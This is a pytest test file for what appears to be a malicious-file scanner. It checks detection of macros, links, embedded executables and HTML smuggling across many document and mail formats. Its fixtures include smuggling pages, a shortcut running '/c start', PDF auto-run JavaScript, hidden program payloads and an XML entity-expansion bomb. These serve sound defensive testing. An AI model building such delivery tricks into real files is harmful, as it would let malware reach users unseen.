    ("local.pdf", files.pdf({"/AA": pikepdf.Dictionary(WC=files.action("URI", URI="file:///C:/a.txt"))})),
    ("macro lists.odt", odf(parts={"Basic/Standard/script-lb.xml": "<l:library xmlns:l='l'/>", "ObjectReplacements/Object 1": b"VCLMTF", "layout-cache": b"\0\1"})),
    ("slides.odp", odf("<w:event-listener s:event-name='dom:click' w:action='next-page'/><w:image x:href='https://example.org/a.png'/>")),
    ("table of pipes.xls", b"<html><table><tr><td>a|b</td><td>-5 | yes!</td></tr></table></html>"),
    ("packed shapes.ppt", presentation(zlib.compress(compound({"Contents": b"x"})))),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), HONEST)
def test_honest_files_have_no_finding(name: str, data: bytes) -> None:
    """What honest people send of the same kinds is nothing remarkable."""
    assert words(look(name, data)) == set()


REPORTS = [
    (
        "table.html",
        (
            b"<html><script>function save(t){var b=new Blob([t],{type:'text/csv'});a.href=URL.createObjectURL(b);a.download='table.csv'}</script>"
            b"<button onclick='save(1)'>Export CSV</button></html>"
        ),
    ),
    (
        "tests.html",
        b"<html><script>window.report='data:application/zip;base64,"
        + base64.b64encode(files.archive({"report.json": "{}", "data/shot.png": files.png()}))
        + b"'</script></html>",
    ),
    (
        "graph.html",
        b"<html><script>model='"
        + base64.b64encode(gzip.compress(repr(list(range(90))).encode()))
        + b"'</script></html>",
    ),
]


@pytest.mark.parametrize(("name", "data"), REPORTS)
def test_a_report_that_saves_its_data_smuggles_nothing(name: str, data: bytes) -> None:
    """Pages that give out tables, or carry their data packed, are pages with script and nothing more."""
    assert words(look(name, data)) == {"activehtml"}


def deep(name: str, data: bytes) -> set[str]:
    """Give the last words of the codes that were found in a file and in the files inside of it."""
    inspection = look(name, data)
    return words(inspection).union(*(deep(member.name, member.content) for member in inspection.members))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("saved.doc", SAVED_PAGE),
        ("in front.doc", files.pdf() + b"\r\n" + SAVED_PAGE),
        ("saved.xml", WORD_2003),
    ],
)
def test_macros_in_documents_saved_as_text_are_read(name: str, data: bytes) -> None:
    """What a macro does is told, also where Office saved it packed within a web page or XML, behind a PDF or not."""
    assert deep(name, data) >= RUNS_BY_ITSELF


LEADS = [
    ("a.pdf", files.pdf({"/AA": pikepdf.Dictionary(WC=files.action("URI", URI=files.LINK))})),
    ("script.pdf", files.pdf({"/OpenAction": JAVASCRIPT})),
    ("code.pdf", files.pdf_with_code(files.LINK)),
    ("code.png", files.png(files.qr_image(files.LINK))),
    ("inverted.png", files.png(Image.eval(files.qr_image(files.LINK), lambda value: 255 - value))),
    ("turned.png", files.png(files.qr_image(files.LINK).rotate(37, expand=True, fillcolor=255))),
    ("code.docx", files.docx(parts={"word/media/image1.png": files.png(files.qr_image(files.LINK))})),
    ("link.docx", files.docx(parts={RELS: files.relation("hyperlink", files.LINK)})),
    ("macro.docm", files.with_macro()),
    ("link.doc", files.doc({"Data": files.LINK.encode("utf-16-le") + b"\0\0"})),
    ("link.rtf", files.rtf(r'{\field{\*\fldinst HYPERLINK "' + files.LINK + '"}}')),
    ("a.html", f"<a href='{files.LINK}'>x</a>".encode()),
    ("hidden.html", f"<script>x='{base64.b64encode(b'<html><a href=' + files.LINK.encode() + b'>click here to go on</a>').decode()}'</script>".encode()),
    ("a.msg", files.outlook_message("a.txt", b"x")),
    ("a.eml", f"Subject: x\r\nFrom: a@b.example\r\n\r\n{files.LINK}\r\n".encode()),
    ("a.txt", files.LINK.encode("utf-16")),
    ("a.ics", f"BEGIN:VCALENDAR\r\nURL:{files.LINK[:20]}\r\n {files.LINK[20:]}\r\n".encode()),
    ("a.vcf", f"BEGIN:VCARD\r\nURL:{files.LINK}\r\n".encode()),
    ("a.url", f"[InternetShortcut]\r\nURL={files.LINK}\r\n".encode()),
    ("a.lnk", files.lnk(f"/c start {files.LINK}")),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), LEADS)
def test_links_are_read_from_every_kind(name: str, data: bytes) -> None:
    """Where a file leads is told, in whatever form it says so."""
    assert files.LINK in look(name, data).urls


TEXTS = [
    ("a.pdf", files.pdf(text="The quick brown fox")),
    ("a.docx", files.docx("The quick brown fox")),
    ("a.pptx", files.docx(parts={"ppt/slides/slide1.xml": "<a:t>The quick brown fox</a:t>"})),
    ("a.odt", files.archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<text:p>The quick <text:b>brown</text:b> fox</text:p>"}, stored=True)),
    ("a.rtf", files.rtf(r"{\b The} quick brown fox")),
    ("a.html", b"<html><script>var x</script><p>The <b>quick</b> brown fox</p>"),
    ("a.eml", b"Subject: The quick brown fox\r\nFrom: a@b.example\r\n\r\nx"),
    ("a.ics", b"BEGIN:VCALENDAR\r\nSUMMARY:The quick brown fox\r\n"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), TEXTS)
def test_text_is_read_from_every_kind(name: str, data: bytes) -> None:
    """What a person would read in a file is given as text."""
    assert "The quick brown fox" in " ".join(look(name, data).text.split())


CARRIES = [
    ("a.docx", files.docx(parts={"word/embeddings/a.bin": files.PROGRAM}), Kind.PE),
    ("a.doc", files.doc({"P": Storage({"\1Ole10Native": files.native_object("a.exe", files.PROGRAM)})}), Kind.PE),
    ("a.rtf", files.rtf_object("Package", files.native_object("a.exe", files.PROGRAM)[4:]), Kind.PE),
    ("a.pdf", files.pdf(embedded={"a.exe": files.PROGRAM}), Kind.PE),
    ("a.one", files.onenote(files.PROGRAM), Kind.PE),
    ("a.html", files.smuggling_page(files.PROGRAM), Kind.PE),
    ("a.msg", files.outlook_message("a.exe", files.PROGRAM), Kind.PE),
    ("a.png", files.png() + files.archive({"a": "b"}), Kind.ZIP),
    ("given.docx", files.encrypted_docx("infected"), Kind.OOXML),
    ("called a part.docx", files.docx(parts={"word/theme/theme1.xml": files.PROGRAM}), Kind.PE),
    ("a.ics", b"BEGIN:VCALENDAR\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.exe:" + base64.b64encode(files.PROGRAM) + b"\r\nEND:VCALENDAR\r\n", Kind.PE),
    ("folded.ics", b"BEGIN:VCALENDAR\r\nATTACH;VALUE=BINARY;ENCODING=BASE64:" + base64.encodebytes(files.PROGRAM).replace(b"\n", b"\r\n ") + b"\r\nEND:VCALENDAR\r\n", Kind.PE),
    ("a.ppt", presentation(zlib.compress(files.doc({"x": b"y"}))), Kind.OLE),
    ("a.eml", b"Subject: x\r\nFrom: y@z.example\r\nContent-Type: application/x; name=a.exe\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(files.PROGRAM).replace(b"\n", b"\r\n"), Kind.PE),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data", "kind"), CARRIES)
def test_files_inside_are_given_out(name: str, data: bytes, kind: Kind) -> None:
    """What lies inside of a file becomes a file in its turn."""
    assert kind in {kind_of(member.content, member.name) for member in look(name, data).members}


PAGE = (
    b"From: a@b.example\r\nSubject: x\r\nContent-Type: multipart/related; boundary=q\r\n\r\n--q\r\nContent-Type: text/html\r\n\r\n"
    + files.smuggling_page(archives.zipped({"a.exe": files.PROGRAM}))
    + b"\r\n--q--\r\n"
)


def test_the_pages_of_a_saved_page_are_looked_into() -> None:
    """A browser opens the pages in an .mht with their scripts, so that they are looked into as pages; a mail client does not."""
    assert "smuggled" in deep("page.mht", PAGE)
    assert "smuggled" not in deep("letter.eml", PAGE.replace(b"related", b"mixed"))


def test_what_nobody_else_can_unpack_is_marked_unseen() -> None:
    """Decrypted documents and what lies packed in a presentation are for the scanner, whatever kind is around them."""
    for name, data in (
        ("a.docx", files.encrypted_docx("infected")),
        ("a.ppt", presentation(zlib.compress(files.doc({"Contents": b"x"})))),
    ):
        assert [member.unseen for member in look(name, data).members] == [True]


def test_what_is_signed_is_called_as_the_file_without_its_signature() -> None:
    """A program within a signature is one, under the name that whoever takes the signature off sees; a letter is a letter."""
    (member,) = look("invoice.js.p7m", files.signed(b"WScript.Echo(1)")).members
    assert member.name == "invoice.js"
    (member,) = look("smime.p7m", files.signed(b"Content-Type: text/plain\r\n\r\nhello\r\n")).members
    assert kind_of(member.content, member.name) is Kind.MAIL


@pytest.mark.parametrize("cut", range(0, 90, 7))
def test_a_damaged_signature_gives_nothing(cut: int) -> None:
    """Whatever a signed file is cut off at, it is answered."""
    for pieces in (True, False):
        assert len(look("a.p7m", files.signed(b"x" * 50, pieces=pieces)[:cut]).members) <= 1


def test_a_mailbox_gives_each_message() -> None:
    """The messages of an mbox are opened one by one, and more of them than are opened are told."""
    letter = b"From a@b.example Thu Nov 26 10:00:00 2026\nSubject: x\nFrom: a@b.example\n\nhello\n\n"
    assert [member.content.count(b"Subject") for member in look("a.mbox", letter * 4).members] == [1, 1, 1]
    assert "limit" in words(look("a.mbox", letter * (file_limits.FILE_MEMBERS + 5)))


HEADS = [magic for magic, _ in MAGIC] + [
    b"PK\3\4",
    b"<html><script>",
    b"<svg>",
    b"[InternetShortcut]\n",
    b"From: x\nSubject: y\n\n",
]
SEEDS = [data for _, data in HONEST]


@settings(max_examples=150)
@given(st.sampled_from(HEADS), st.binary(max_size=3_000), st.sampled_from(["a.bin", "a.html", "a.js", "a.csv", ""]))
def test_arbitrary_bytes_never_raise(head: bytes, tail: bytes, name: str) -> None:
    """Whatever follows a format's first bytes is answered, and no reader fails on it unexpectedly."""
    assert "error" not in words(look(name, head + tail))


@settings(max_examples=150)
@given(st.sampled_from(SEEDS), st.integers(0, 5_000), st.binary(min_size=1, max_size=40), st.booleans())
def test_damaged_files_never_raise(data: bytes, at: int, noise: bytes, cut: bool) -> None:
    """A file that was cut off, or has other bytes in its middle, is answered as well."""
    at %= len(data) + 1
    damaged = data[:at] + noise + (b"" if cut else data[at + len(noise) :])
    assert "error" not in words(look("a", damaged))


def test_what_is_given_out_is_bounded() -> None:
    """No file decides how much is kept of it."""
    page = look(
        "a.html",
        b"<html>" + b"".join(b"<a href='https://example.org/%d'>many words</a> " % number for number in range(20_000)),
    )
    assert len(page.urls) <= limits.URLS
    assert len(page.text) <= file_limits.FILE_TEXT_CHARACTERS + 1
    section = look("a.one", files.onenote(*[b"file %d" % number for number in range(500)]))
    assert len(section.members) <= file_limits.FILE_MEMBERS


def test_the_script_behind_a_large_literal_is_seen() -> None:
    """A page larger than what is searched is searched at both ends, and says that it was not read whole."""
    blob = b"A" * (file_limits.MARKUP_BYTES + 100)
    page = (
        b"<html><script>d='" + blob + b"';a.href=URL.createObjectURL(new Blob([d]));a.download='x.zip'</script></html>"
    )
    assert {"smuggled", "partial"} <= words(look("a.html", page))


SLOW = [
    ("tags.html", b"<script " * 400_000),
    ("quotes.html", b"<html>" + b"'=\"+" * 600_000),
    ("percent.html", b"<html>" + b"%41" * 900_000),
    ("numbers.html", b"<html>" + b"[1,2,3," * 400_000),
    ("relations.docx", files.docx(parts={RELS: b"<Relationship TargetMode " * 300_000})),
    ("fields.docx", files.docx(parts={"word/document.xml": b"<w:instrText " * 300_000})),
    ("groups.rtf", b"{\\rtf1" + b"{\\*\\template " * 150_000),
    ("fields.rtf", b"{\\rtf1" + b"\\fldinst " * 300_000),
    ("formulas.csv", b'"=' * 1_000_000),
    ("link.txt", b"http://" * 500_000),
    ("names.pdf", b"%PDF-1.4\n" + b"/J#61" * 400_000),
    ("objects.pdf", b"%PDF-1.4\n" + b"stream\n" * 300_000),
    ("calls.csv", b"xa|b!c," * 400_000),
    ("lines.html", b"<html>" + b'"AAAAAAAAAAAAAAAAAAAAAAAAA\n' * 100_000),
    ("names.html", b"<html>" + b"new File(" * 300_000),
    ("elements.docx", files.docx(parts={"word/document2.xml": b"<w:instrText>" + b"<a>" * 1_500_000})),
    ("relations.docx", files.docx(parts={RELS: b"<r>" + b"<Relationship/>" * 300_000})),
    ("groups.rtf", b"{\\rtf1{\\fldinst " + b"{}" * 300_000),
    ("entities.svg", b"<!DOCTYPE svg [<!ENTITY a0 'aaaa<b/>'>" + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 9)) + b"]><svg>&a8;</svg>"),
    ("storages.ppt", presentation(zlib.compress(b"\0" * 1_000_000) + (struct.pack("<HHII", 0x10, 0x1011, 9, 1) + zlib.compress(b"\0" * 1_000_000)) * 300)),
    ("values.ics", b"BEGIN:VCALENDAR\r\n" + b"data:;base64," * 300_000),
    ("lines.mbox", b"From a\nFrom: a\nTo: b\n\n" + b"\nFrom " * 1_000_000),
    ("headers.docx", b"PK\3\4\x14\0\0\0\0\0[Content_Types].xml" + b"PK\3\4" * 2_000_000),
    ("files.ics", b"BEGIN:VCALENDAR\r\n" + b"A;ENCODING=B:AA\r\n" * 100_000),
]  # fmt: skip


@pytest.mark.parametrize(("name", "data"), SLOW)
def test_nothing_is_quadratic(name: str, data: bytes) -> None:
    """Repeating what a pattern begins with, megabytes long, costs no more than reading it."""
    inspection = look(name, data)
    assert len(inspection.text) <= file_limits.FILE_TEXT_CHARACTERS + 1
